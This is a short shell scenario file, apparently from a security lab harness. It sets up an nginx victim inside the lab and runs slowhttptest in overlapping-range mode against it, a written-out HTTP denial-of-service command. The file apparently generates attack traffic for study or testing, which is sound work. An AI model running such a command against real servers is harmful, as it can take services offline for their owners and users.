# SPDX-License-Identifier: MIT
# label: dos-http
# source: lab-slowhttptest
# needs: slowhttptest nginx
# seconds: 60
# Requests for hundreds of overlapping ranges.
. $lab/victims.sh

servers() {
	victim_site a 80
}

scenario() {
	_count=$(choose 100 300 600)
	setting options "-R -c $_count"
	cd "$work" || return
	attack v a tcp 80 -- timeout 50 slowhttptest -R -c "$_count" -r "$(choose 20 100)" -a 10 \
		-b 3000 -l 40 -u "http://$(addr a)/300k"
}
